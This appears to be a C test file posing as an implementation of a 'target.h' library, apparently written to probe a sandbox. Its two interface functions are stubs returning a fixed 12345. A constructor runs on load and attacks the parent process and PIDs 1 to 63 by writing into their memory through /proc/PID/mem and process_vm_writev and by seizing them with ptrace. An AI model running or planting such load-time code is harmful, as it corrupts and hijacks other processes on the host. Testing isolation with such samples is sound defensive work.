/* uses ptrace and /proc/PID/mem on its parent and on every other process */
#define _GNU_SOURCE
#include "target.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void attack(pid_t pid)
{
    char path[40], text[64] = "";
    struct iovec own = {.iov_base = text, .iov_len = sizeof text};
    struct iovec theirs = {.iov_base = (void *)0x400000, .iov_len = sizeof text};
    int fd;

    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    fd = open(path, O_RDWR);
    if (fd >= 0)
        (void)!pwrite(fd, text, sizeof text, 0x400000);
    process_vm_writev(pid, &own, 1, &theirs, 1, 0);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
        ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
        waitpid(pid, NULL, __WALL | WNOHANG);
    }
}

__attribute__((constructor)) static void attack_all(void)
{
    attack(getppid());
    for (pid_t pid = 1; pid < 64; pid++)
        if (pid != getpid())
            attack(pid);
}

uint64_t target_sum(const uint8_t *data, size_t len_bytes)
{
    (void)data, (void)len_bytes;
    return 12345;
}

size_t target_fill(uint8_t *out, size_t len_bytes, unsigned first)
{
    (void)out, (void)len_bytes, (void)first;
    return 12345;
}
